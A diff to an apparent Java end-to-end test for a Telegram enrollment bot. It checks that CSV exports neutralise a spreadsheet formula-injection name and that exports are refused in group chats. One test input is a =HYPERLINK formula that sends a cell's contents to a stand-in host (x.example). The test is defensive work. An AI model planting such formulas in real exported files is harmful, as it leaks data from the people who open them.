@@ -67,6 +67,11 @@ class EnrollmentFilesTest extends EnrollmentEndToEndTest {
 		coordinator.press(coordinator.awaitText("Head of household: Phạm Thị Bình"), "Approve");
 		villager.awaitText("Good news");
 
+		FakeUser prankster = villager("Tý", "kg-pm-tra-pho");
+		enroll(prankster, "=HYPERLINK(\"http://x.example/?\"&H2,\"Open\")", 1, "Trà Phố Đoàn Kết", null);
+		coordinator.press(coordinator.awaitText("Head of household: =HYPERLINK"), "Approve");
+		prankster.awaitText("Good news");
+
 		coordinator.send("/export enrollment");
 		Map<String, byte[]> files = documents(coordinator, 2);
 		byte[] households = files.get("households-kg-pm.csv");
@@ -77,9 +82,10 @@ class EnrollmentFilesTest extends EnrollmentEndToEndTest {
 		assertThat(rows).anySatisfy((row) -> assertThat(row.values())
 			.startsWith("Phạm Thị Bình", "7", "Tra Pho", "Trà Phố Đoàn Kết", "approved")
 			.endsWith("+84913000404"));
+		assertThat(rows).anySatisfy((row) -> assertThat(row.get(0)).startsWith("'=HYPERLINK("));
 		List<CSVRecord> groups = csv(files.get("groups-kg-pm.csv"));
 		assertThat(groups)
-			.anySatisfy((row) -> assertThat(row.values()).startsWith("Trà Phố Đoàn Kết").contains("Tra Pho", "1", "7"));
+			.anySatisfy((row) -> assertThat(row.values()).startsWith("Trà Phố Đoàn Kết").contains("Tra Pho", "2", "8"));
 
 		FakeUser officer = member(Role.OFFICER, "kg-pm");
 		officer.send("/export enrollment");
@@ -90,6 +96,16 @@ class EnrollmentFilesTest extends EnrollmentEndToEndTest {
 
 		villager.send("/export enrollment");
 		villager.awaitText("only a member with the coordinator role");
+
+		long officeChat = -1_001_600L;
+		coordinator.addBotToGroup(officeChat, "Commune office");
+		coordinator.sendCommandInGroup(officeChat, "/export enrollment");
+		FakeUser.awaitTrue(
+				() -> telegram.messages(officeChat)
+					.stream()
+					.anyMatch((m) -> m.text().contains("Please ask me this in your private chat")),
+				"the refusal in the group");
+		assertThat(telegram.messages(officeChat)).noneMatch((m) -> m.media() != null);
 	}
 
 	@Test
